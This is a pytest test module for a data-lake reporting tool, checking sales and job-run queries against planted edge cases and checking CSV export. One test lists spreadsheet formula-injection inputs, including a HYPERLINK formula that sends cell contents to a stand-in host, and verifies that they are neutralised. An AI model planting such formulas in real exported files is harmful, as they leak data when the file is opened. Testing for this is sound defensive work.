"""Every named query executed (DuckDB, via sqlglot) on a small hand-built lake whose answers are known.

The clock is pinned to NOW, so "last 30 days" is dt 2024-05-17 .. 2024-06-15. The dataset plants, for each
rule a query must honour, a record that would change the answer if the rule were broken: a redelivered
sale and job run, a run re-reported under a new event_id, rows just outside every window (before and
after), a returning customer next to one who bought twice on one day, failed, timed-out and successful
runs, an outlier next to a slow-growth series, a 2.8x run (over the 2.5x rule), an outlier without enough
history, overdue and recent clients, and a client with a silent month.
"""

from __future__ import annotations

from datetime import datetime, timedelta
from decimal import Decimal
from pathlib import Path

import pytest

from lakewatch.domain.tables import JOB_RUNS, SALES
from lakewatch.local.lake import write_rows
from lakewatch.local.queries import QueryResult, run_named_queries
from tests.unit.athena.factories import INGESTED_AT, job_run, sale

NOW = datetime(2024, 6, 15, 12, 0)
REDELIVERED_AT = INGESTED_AT + timedelta(minutes=5)


def _sales() -> tuple[list[dict], list[dict]]:
    """(first delivery, redelivery) of the sales."""
    first_camden = sale(
        "s1", datetime(2024, 6, 10, 9, 15), store="Camden", customer_key="cust-a",
        items=[("latte", 3.00, 2), ("croissant", 2.50, 1)],
    )  # fmt: skip
    first = [
        first_camden,
        # cust-a again on another day: returning.
        sale("s2", datetime(2024, 6, 12, 9, 40), store="Camden", customer_key="cust-a", items=[("latte", 3.00, 1)]),
        # cust-b twice on the same day (web): not returning.
        sale("s3", datetime(2024, 6, 12, 14, 5), customer_key="cust-b", items=[("tea", 2.00, 3)], discount=1.00),
        sale("s4", datetime(2024, 6, 12, 18, 30), customer_key="cust-b", items=[("croissant", 2.50, 2)]),
        # Anonymous: counted as an order, never as a customer.
        sale("s5", datetime(2024, 6, 14, 9, 5), store="Soho", items=[("latte", 3.00, 1), ("tea", 2.00, 1)]),
        # First minute of the window's first day...
        sale("s6", datetime(2024, 5, 17, 23, 59), store="Soho", customer_key="cust-c", items=[("croissant", 2.50, 1)]),
        # ...and the day before it: outside, so cust-c is not returning and latte loses 10 units.
        sale("s7", datetime(2024, 5, 16, 10, 0), store="Soho", customer_key="cust-c", items=[("latte", 3.00, 10)]),
        # After now: outside too (it would make cust-b returning).
        sale("s8", datetime(2024, 6, 16, 8, 0), customer_key="cust-b", items=[("latte", 3.00, 5)]),
    ]
    redelivered = [{**first_camden, "ingested_at": REDELIVERED_AT.strftime("%Y-%m-%d %H:%M:%S.%f")}]
    return first, redelivered


def _daily(client: str, job: str, first_day: datetime, durations: list[float], **kwargs) -> list[dict]:
    return [
        job_run(client, job, first_day + timedelta(days=index), duration, **kwargs)
        for index, duration in enumerate(durations)
    ]


def _job_runs() -> tuple[list[dict], list[dict]]:
    """(first delivery, redelivery) of the job runs."""
    at_one = datetime(2024, 5, 1, 1, 0)
    # acme: slow growth (+30 s a day, 1 %/day) from 1 May to today: never an outlier, +20 % month over month.
    acme = _daily("acme", "nightly_sales", at_one, [3000 + 30 * day for day in range(46)], cost_usd=1.2345)
    acme_after_now = job_run("acme", "nightly_sales", datetime(2024, 6, 16, 1, 0), 4200, cost_usd=1.2345)
    acme_13_june = next(run for run in acme if run["run_id"].endswith("2024-06-13"))
    acme_14_june = next(run for run in acme if run["run_id"].endswith("2024-06-14"))

    # globex: 950/1050 s alternating from 20 May (median 1000), a 5x run on 10 June, a 2.8x run on 12 June,
    # last run on 13 June (overdue at noon on the 15th).
    globex_durations = [950.0 if day % 2 == 0 else 1050.0 for day in range(25)]
    globex_durations[21] = 5000.0
    globex_durations[23] = 2800.0
    globex = _daily("globex", "nightly_sales", datetime(2024, 5, 20, 1, 0), globex_durations, cost_usd=0.5)

    # initech: a 10x run after only 5 runs of history (too little to judge); then silent since 6 June.
    initech = _daily(
        "initech", "nightly_sales", datetime(2024, 6, 1, 1, 0), [600, 600, 600, 600, 600, 6000], cost_usd=0.25
    )
    weekly = [
        job_run("initech", "weekly_export", datetime(2024, 5, 10, 3, 0), 300, status="FAILED",
                cost_usd=4.0, data_processed_gb=8.0),
        job_run("initech", "weekly_export", datetime(2024, 6, 3, 3, 0), 600, status="FAILED",
                cost_usd=2.0, data_processed_gb=10.5),
        job_run("initech", "weekly_export", datetime(2024, 6, 8, 3, 0), 10800, status="TIMED_OUT",
                cost_usd=3.5, data_processed_gb=20.25),
        job_run("initech", "weekly_export", datetime(2024, 6, 9, 3, 0), 2400, cost_usd=1.0, data_processed_gb=5.0),
    ]  # fmt: skip

    # umbrella: runs in January and March (February silent), one a year ago, none in the last 90 days.
    umbrella = [
        job_run("umbrella", "nightly_sales", datetime(2023, 5, 20, 1, 0), 450, cost_usd=9.99),
        job_run("umbrella", "nightly_sales", datetime(2024, 1, 10, 1, 0), 400, cost_usd=9.99),
        job_run("umbrella", "nightly_sales", datetime(2024, 3, 1, 1, 0), 500, cost_usd=9.99),
    ]

    re_reported = {**acme_13_june, "event_id": "evt-acme-13-june-resent", "ingested_at": "2024-06-15 11:30:00.000000"}
    redelivered = [{**acme_14_june, "ingested_at": REDELIVERED_AT.strftime("%Y-%m-%d %H:%M:%S.%f")}, re_reported]
    return [*acme, acme_after_now, *globex, *initech, *weekly, *umbrella], redelivered


@pytest.fixture(scope="module")
def out_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("out")


@pytest.fixture(scope="module")
def results(out_dir: Path) -> dict[str, QueryResult]:
    """Given the lake written in two Firehose deliveries, when every named query runs as of NOW."""
    lake_root = out_dir / "lake"
    for table, (first, redelivered) in ((SALES, _sales()), (JOB_RUNS, _job_runs())):
        write_rows(table, first, lake_root, file_name="part-00000")
        write_rows(table, redelivered, lake_root, file_name="part-00001-redelivery")
    return run_named_queries(lake_root, NOW, out_dir / "queries")


def _records(results: dict[str, QueryResult], name: str) -> list[dict]:
    return results[name].records()


def test_top_products_counts_each_line_once_ranked_by_line_total_revenue(results):
    # Then: the redelivered s1 adds nothing, s7 (day before the window) and s8 (after now) are out,
    # and tea's revenue is its line totals (6.00 + 2.00) although s3 had a 1.00 basket discount.
    assert _records(results, "top_products") == [
        {"product": "latte", "units": 4, "revenue": Decimal("12.00")},
        {"product": "croissant", "units": 4, "revenue": Decimal("10.00")},
        {"product": "tea", "units": 4, "revenue": Decimal("8.00")},
    ]


def test_store_performance_shows_web_as_a_store(results):
    assert _records(results, "store_performance") == [
        {"store": "Camden", "orders": 2, "revenue": Decimal("11.50"), "avg_basket": 5.75},
        {"store": "web", "orders": 2, "revenue": Decimal("10.00"), "avg_basket": 5.0},
        {"store": "Soho", "orders": 2, "revenue": Decimal("7.50"), "avg_basket": 3.75},
    ]


def test_peak_hours_groups_by_utc_hour(results):
    assert _records(results, "peak_hours") == [
        {"hour": 9, "orders": 3, "revenue": Decimal("16.50")},
        {"hour": 14, "orders": 1, "revenue": Decimal("5.00")},
        {"hour": 18, "orders": 1, "revenue": Decimal("5.00")},
        {"hour": 23, "orders": 1, "revenue": Decimal("2.50")},
    ]


def test_daily_revenue_per_day_and_channel_within_the_window(results):
    assert _records(results, "daily_revenue") == [
        {"dt": "2024-05-17", "channel": "store", "orders": 1, "revenue": Decimal("2.50")},
        {"dt": "2024-06-10", "channel": "store", "orders": 1, "revenue": Decimal("8.50")},
        {"dt": "2024-06-12", "channel": "store", "orders": 1, "revenue": Decimal("3.00")},
        {"dt": "2024-06-12", "channel": "web", "orders": 2, "revenue": Decimal("10.00")},
        {"dt": "2024-06-14", "channel": "store", "orders": 1, "revenue": Decimal("5.00")},
    ]


def test_returning_customers_need_two_distinct_days(results):
    # cust-a: 10 and 12 June (returning); cust-b: twice on 12 June; cust-c: once inside the window.
    assert _records(results, "returning_customers") == [
        {"customers": 3, "returning_customers": 1, "returning_share": 0.3333}
    ]


def test_job_failures_counts_each_run_once_and_timed_out_as_failed(results):
    # acme: 30 runs in the window although 14 June was delivered twice and 13 June re-reported.
    assert _records(results, "job_failures") == [
        {"client": "initech", "job_name": "weekly_export", "runs": 3, "failed_runs": 2, "failure_rate": 0.6667,
         "failed_cost_usd": Decimal("5.5000"), "total_cost_usd": Decimal("6.5000")},
        {"client": "acme", "job_name": "nightly_sales", "runs": 30, "failed_runs": 0, "failure_rate": 0.0,
         "failed_cost_usd": Decimal("0.0000"), "total_cost_usd": Decimal("37.0350")},
        {"client": "globex", "job_name": "nightly_sales", "runs": 25, "failed_runs": 0, "failure_rate": 0.0,
         "failed_cost_usd": Decimal("0.0000"), "total_cost_usd": Decimal("12.5000")},
        {"client": "initech", "job_name": "nightly_sales", "runs": 6, "failed_runs": 0, "failure_rate": 0.0,
         "failed_cost_usd": Decimal("0.0000"), "total_cost_usd": Decimal("1.5000")},
    ]  # fmt: skip


def test_failure_cost_by_month_covers_twelve_months(results):
    # May 2023 is outside the 12 months; June counts acme 1-15 June once each (the 16th is after now).
    assert _records(results, "failure_cost_by_month") == [
        {"month": "2024-01", "runs": 1, "failed_runs": 0, "total_cost_usd": Decimal("9.9900"),
         "failed_cost_usd": Decimal("0.0000"), "failed_data_gb": 0.0},
        {"month": "2024-03", "runs": 1, "failed_runs": 0, "total_cost_usd": Decimal("9.9900"),
         "failed_cost_usd": Decimal("0.0000"), "failed_data_gb": 0.0},
        {"month": "2024-05", "runs": 44, "failed_runs": 1, "total_cost_usd": Decimal("48.2695"),
         "failed_cost_usd": Decimal("4.0000"), "failed_data_gb": 8.0},
        {"month": "2024-06", "runs": 37, "failed_runs": 2, "total_cost_usd": Decimal("33.0175"),
         "failed_cost_usd": Decimal("5.5000"), "failed_data_gb": 30.75},
    ]  # fmt: skip


def test_duration_outliers_flags_a_sudden_multiple_not_growth_nor_thin_history(results):
    # Listed: globex's 5x run and its 2.8x run, which the Lambda alerts on too (2.5x, far beyond globex's spread
    # and 300 s); the earlier 5x run stays in the 2.8x run's history without moving its median.
    # Not listed: acme's slow growth, initech's 10x run after 5 runs of history, initech's 3 h TIMED_OUT run.
    assert _records(results, "duration_outliers") == [
        {"client": "globex", "job_name": "nightly_sales", "run_id": "globex-nightly_sales-2024-06-10",
         "started_at": datetime(2024, 6, 10, 1, 0), "duration_seconds": 5000.0, "baseline_seconds": 1000.0,
         "ratio": 5.0},
        {"client": "globex", "job_name": "nightly_sales", "run_id": "globex-nightly_sales-2024-06-12",
         "started_at": datetime(2024, 6, 12, 1, 0), "duration_seconds": 2800.0, "baseline_seconds": 1000.0,
         "ratio": 2.8},
    ]  # fmt: skip


def test_overdue_clients_lists_jobs_silent_for_over_a_day(results):
    # acme ran at 01:00 today (and its run "tomorrow" must not count); umbrella is beyond the 90-day look-back.
    assert _records(results, "overdue_clients") == [
        {"client": "initech", "job_name": "nightly_sales", "last_run_at": datetime(2024, 6, 6, 2, 40),
         "hours_since_last_run": 225.3},
        {"client": "initech", "job_name": "weekly_export", "last_run_at": datetime(2024, 6, 9, 3, 40),
         "hours_since_last_run": 152.3},
        {"client": "globex", "job_name": "nightly_sales", "last_run_at": datetime(2024, 6, 13, 1, 15, 50),
         "hours_since_last_run": 58.7},
    ]  # fmt: skip


def test_duration_mom_change_compares_with_the_calendar_month_before(results):
    # umbrella's March has no February to compare with (January is two months back); failed runs are left out.
    assert _records(results, "duration_mom_change") == [
        {"client": "acme", "month": "2024-05", "avg_duration_seconds": 3450.0, "prev_month_avg_seconds": None,
         "pct_change": None},
        {"client": "acme", "month": "2024-06", "avg_duration_seconds": 4140.0, "prev_month_avg_seconds": 3450.0,
         "pct_change": 20.0},
        {"client": "globex", "month": "2024-05", "avg_duration_seconds": 1000.0, "prev_month_avg_seconds": None,
         "pct_change": None},
        {"client": "globex", "month": "2024-06", "avg_duration_seconds": 1434.6, "prev_month_avg_seconds": 1000.0,
         "pct_change": 43.46},
        {"client": "initech", "month": "2024-06", "avg_duration_seconds": 1628.6, "prev_month_avg_seconds": None,
         "pct_change": None},
        {"client": "umbrella", "month": "2024-01", "avg_duration_seconds": 400.0, "prev_month_avg_seconds": None,
         "pct_change": None},
        {"client": "umbrella", "month": "2024-03", "avg_duration_seconds": 500.0, "prev_month_avg_seconds": None,
         "pct_change": None},
    ]  # fmt: skip


def test_each_query_is_written_as_a_csv_with_its_header(results, out_dir):
    # Given the CSVs written next to the lake by the module fixture
    queries_dir = out_dir / "queries"
    # Then one file per query, header first, nulls as empty cells
    assert sorted(path.stem for path in queries_dir.glob("*.csv")) == sorted(results)
    lines = (queries_dir / "duration_mom_change.csv").read_text().splitlines()
    assert lines[0] == "client,month,avg_duration_seconds,prev_month_avg_seconds,pct_change"
    assert lines[1] == "acme,2024-05,3450.0,,"
    assert (queries_dir / "top_products.csv").read_text().splitlines()[1] == "latte,4,12.00"


def test_csv_cells_are_valid_csv_and_text_never_opens_as_a_spreadsheet_formula(tmp_path):
    # Product, store, client and job names are stored as sent; a spreadsheet runs a cell starting with = + - @
    # (or a tab or carriage return before one) as a formula. Such text gets a leading apostrophe; numbers,
    # negative ones included, and every other text are written as they are, quoted where CSV needs it.
    import csv

    from lakewatch.local.queries import QueryResult, write_csv

    formulas = ['=HYPERLINK("http://x/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
    plain = ["a,b", 'say "hi"', "two\nlines", " trailing ", "\u202eevil\u200b", "50%_off", "é😀", "x=1", ""]
    rows = [(text, -1.5) for text in (*formulas, *plain)] + [(None, Decimal("-0.25"))]
    path = tmp_path / "q.csv"
    write_csv(QueryResult("q", ("name", "value"), rows), path)
    with path.open(encoding="utf-8", newline="") as handle:
        header, *cells = list(csv.reader(handle))
    assert header == ["name", "value"]
    assert [cell[0] for cell in cells] == [*("'" + text for text in formulas), *plain, ""]
    assert [cell[1] for cell in cells] == ["-1.5"] * (len(formulas) + len(plain)) + ["-0.25"]


def test_duration_mom_change_gives_no_change_against_a_month_whose_runs_took_no_time(tmp_path):
    # A run may last 0 s; a change against an average of 0 s is undefined (Athena would answer Infinity or NaN).
    runs = [job_run("zeroco", "instant", datetime(2024, 5, 20) + timedelta(days=day), 0) for day in range(5)]
    runs += [job_run("zeroco", "instant", datetime(2024, 6, 2) + timedelta(days=day), 60) for day in range(5)]
    write_rows(JOB_RUNS, runs, tmp_path / "lake", file_name="part-00000")
    result = run_named_queries(tmp_path / "lake", NOW)["duration_mom_change"]
    june = [row for row in result.records() if row["month"] == "2024-06"]
    assert [(row["prev_month_avg_seconds"], row["pct_change"]) for row in june] == [(0.0, None)]
